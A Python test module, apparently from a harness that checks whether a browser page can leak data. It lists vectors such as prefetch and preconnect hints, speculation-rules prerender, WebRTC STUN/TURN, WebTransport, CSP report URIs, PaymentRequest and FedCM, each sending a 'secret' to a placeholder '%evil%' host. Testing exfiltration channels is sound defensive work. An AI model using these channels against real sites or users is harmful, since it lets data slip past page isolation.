"""Vectors that load nothing that a page could read: hints, speculation, reports, WebRTC, browser services."""

from __future__ import annotations

import json

from .vector import Answer, Vector


def rules(kind: str, url: str) -> str:
    """A page's wish to have an address loaded before anybody goes there."""
    wish = {kind: [{"source": "list", "urls": [url], "eagerness": "immediate"}]}
    return f'<script type="speculationrules">{json.dumps(wish)}</script>'


def linked(rel: str, *, more: str = "") -> tuple[tuple[str, str], ...]:
    """A hint as a header."""
    return (("Link", f"<%evil%/a>; rel={rel}{more}"),)


HINTS = (
    Vector("dns_prefetch", page='<link rel="dns-prefetch" href="%evil%">', fires=""),
    Vector("preconnect", page='<link rel="preconnect" href="%evil%">', fires=""),
    Vector("preconnect_header", headers=linked("preconnect"), fires=""),
    Vector("preload_header", headers=linked("preload", more="; as=image")),
    Vector("prefetch", page='<link rel="prefetch" href="%evil%/?s=secret">'),
    Vector("modulepreload", page='<link rel="modulepreload" href="%evil%/a.js">'),
    Vector("specrules_prefetch", page=rules("prefetch", "%evil%/?s=secret"), secure=True, fires=""),
    Vector("specrules_prerender", page=rules("prerender", "%evil%/?s=secret"), secure=True, fires=""),
    Vector(
        "prerender_same_then_evil",
        page=rules("prerender", "/prerender_same_then_evil/inner"),
        files={"inner": Answer('<img src="%evil%/?s=secret">')},
        secure=True,
        fires="",
    ),
    Vector("hover_anchor_preconnect", page='<a id="x" href="%evil%/?s=secret">go</a>', way="hover", fires=""),
)

RTC = """
    const peer = new RTCPeerConnection({iceServers: [%s]});
    peer.createDataChannel('d');
    await peer.setLocalDescription(await peer.createOffer());
"""
CANDIDATE = """
    const one = new RTCPeerConnection(), two = new RTCPeerConnection();
    one.createDataChannel('d');
    await one.setLocalDescription(await one.createOffer());
    await two.setRemoteDescription(one.localDescription);
    await two.setLocalDescription(await two.createAnswer());
    await one.setRemoteDescription(two.localDescription);
    await one.addIceCandidate({
        candidate: 'candidate:1 1 udp 2130706431 %udpip% %udpport% typ host', sdpMid: '0', sdpMLineIndex: 0});
"""
PAYMENT = """
    const request = new PaymentRequest(
        [{supportedMethods: 'https://%host%/pay'}], {total: {label: 'all', amount: {currency: 'EUR', value: '1'}}});
    await Promise.allSettled([request.canMakePayment(), request.hasEnrolledInstrument?.()]);
"""

DATAGRAMS = (
    Vector("webrtc_stun", script=RTC % "{urls: 'stun:%stun%'}", fires="udp"),
    Vector(
        "webrtc_turn_tcp",
        script=RTC % "{urls: 'turn:%host%:80?transport=tcp', username: 'u', credential: 'secret'}",
        fires="tcp",
    ),
    Vector("webrtc_candidate", script=CANDIDATE, fires="udp"),
    Vector("webtransport", script="new WebTransport('https://%host%/?s=secret')", secure=True, fires="udp"),
)

REPORTS = (
    Vector(
        "csp_report_uri",
        page='<img src="blocked.png">',
        headers=(("Content-Security-Policy", "img-src 'none'; report-uri %evil%/?s=secret"),),
    ),
    Vector(
        "reporting_endpoints",
        page='<img src="blocked.png">',
        headers=(
            ("Reporting-Endpoints", 'e="https://%host%/?s=secret"'),
            ("Content-Security-Policy", "img-src 'none'; report-to e"),
        ),
        secure=True,
        fires="",
    ),
)

SERVICES = (
    # A full Chromium asks for the manifest; the headless shell has no such service.
    Vector("paymentrequest", script=PAYMENT, secure=True, fires=""),
    Vector(
        "fedcm",
        script="navigator.credentials.get({identity: {providers: "
        "[{configURL: 'https://%host%/fedcm.json', clientId: '1', nonce: 'n'}]}})",
        secure=True,
        fires="tcp",
    ),
)

EXTRAS = (
    Vector(
        "csp_report_only_frame",
        page='<iframe src="csp_report_only_frame/inner"></iframe>',
        files={
            "inner": Answer(
                '<script>"x"</script>',
                headers=(("Content-Security-Policy-Report-Only", "script-src 'none'; report-uri %evil%/"),),
            ),
        },
        extra=True,
    ),
    Vector(
        "webrtc_turn_udp", script=RTC % "{urls: 'turn:%stun%', username: 'u', credential: 's'}", fires="udp", extra=True
    ),
    Vector("stylesheet_hint", page='<link rel="preload" as="style" href="%evil%/a.css">', extra=True),
)

OTHERS = (*HINTS, *DATAGRAMS, *REPORTS, *SERVICES, *EXTRAS)
